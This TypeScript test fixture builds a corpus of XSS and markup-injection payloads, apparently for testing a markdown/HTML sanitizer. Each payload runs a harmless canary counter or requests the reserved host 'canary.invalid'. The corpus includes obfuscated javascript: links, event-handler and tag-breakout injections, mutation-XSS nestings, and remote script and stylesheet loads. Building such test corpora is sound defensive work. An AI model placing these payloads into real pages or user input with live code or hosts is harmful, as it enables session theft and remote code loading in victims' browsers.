/** Texts that try to become a script, a request or another page. Each calls the canary, or asks the canary's host for something. */

export const CANARY_HOST = "canary.invalid";

const RUN = "window.canary=(window.canary||0)+1";
const FETCH = `http://${CANARY_HOST}/x`;

const EVENTS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin", "onwheel"];
const ELEMENTS = ["img", "svg", "body", "input autofocus", "details open", "video", "audio", "iframe", "marquee", "object", "math", "select autofocus"];

const onEvents = EVENTS.flatMap((event) => ELEMENTS.map((element) => `<${element} src=x ${event}="${RUN}">`));

const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\u0001javascript:", "data:text/html,", "vbscript:", "blob:", "javascript&colon;"];
const links = schemes.flatMap((scheme) => [
  `[x](${scheme}${RUN})`,
  `[x](<${scheme}${RUN}>)`,
  `![x](${scheme}${RUN})`,
  `<a href="${scheme}${RUN}">x</a>`,
  `<${scheme}${RUN}>`,
]);

const remote = [
  `![x](${FETCH}.png)`,
  `![x][r]\n\n[r]: ${FETCH}.png`,
  `<img src="${FETCH}">`,
  `<link rel=stylesheet href="${FETCH}">`,
  `<link rel=prefetch href="${FETCH}">`,
  `<iframe src="${FETCH}"></iframe>`,
  `<object data="${FETCH}"></object>`,
  `<embed src="${FETCH}">`,
  `<video poster="${FETCH}"></video>`,
  `<form action="${FETCH}"><button>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=${FETCH}">`,
  `<base href="${FETCH}/">`,
  `<style>@import "${FETCH}"; body{background:url(${FETCH})}</style>`,
  `<div style="background:url(${FETCH})">x</div>`,
  `<svg><image href="${FETCH}"/><use href="${FETCH}#x"/></svg>`,
  `<audio src="${FETCH}" autoplay></audio>`,
  `<input type=image src="${FETCH}">`,
];

const scripts = [
  `<script>${RUN}</script>`,
  `<script src="${FETCH}"></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</pre></code><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `| <img src=x onerror=${RUN}> | b |\n|---|---|\n| <script>${RUN}</script> | x |`,
  `> <script>${RUN}</script>`,
  `# <img src=x onerror=${RUN}>`,
  `- <svg onload=${RUN}>`,
  `\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
  `{"__html":"<script>${RUN}</script>"}`,
  `\u202e<script>${RUN}</script>\u202c`,
  `<scr\u0000ipt>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\u001b]8;;javascript:${RUN}\u0007x`,
];

export const PAYLOADS: string[] = [...scripts, ...links, ...remote, ...onEvents];
